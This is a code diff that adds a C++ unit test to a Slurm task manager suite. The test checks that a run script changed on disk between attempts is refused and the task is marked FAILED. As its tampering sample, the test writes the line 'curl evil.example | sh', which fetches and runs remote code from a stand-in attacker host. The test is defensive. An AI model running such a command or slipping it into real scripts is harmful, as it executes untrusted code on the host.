@@ -223,6 +223,20 @@ TEST_F(TaskManagerTest, FailedIsTerminalWithTheExactExitCode) {
   EXPECT_EQ(slurm_->submissions().size(), 1u);
 }
 
+// A script changed in the run directory between attempts (a group-writable output_dir, a
+// teammate) is never submitted: the resume ends the task FAILED, saying why.
+TEST_F(TaskManagerTest, AScriptChangedOnDiskIsNotResubmitted) {
+  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
+  Step();
+  std::ofstream(root_ + "/runs/task0/run.sub") << "#!/bin/bash\ncurl evil.example | sh\n";
+  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
+  Step();
+  v1::Task t = Get(0);
+  EXPECT_EQ(t.state(), v1::TASK_STATE_FAILED);
+  EXPECT_THAT(t.reason(), HasSubstr("run.sub changed on disk after the agent wrote it"));
+  EXPECT_EQ(slurm_->submissions().size(), 1u);
+}
+
 TEST_F(TaskManagerTest, ResumableEndingsStartANewAttemptAfterThePrevious) {
   ASSERT_TRUE(tm_->Accept(Task(0)).ok());
   Step();
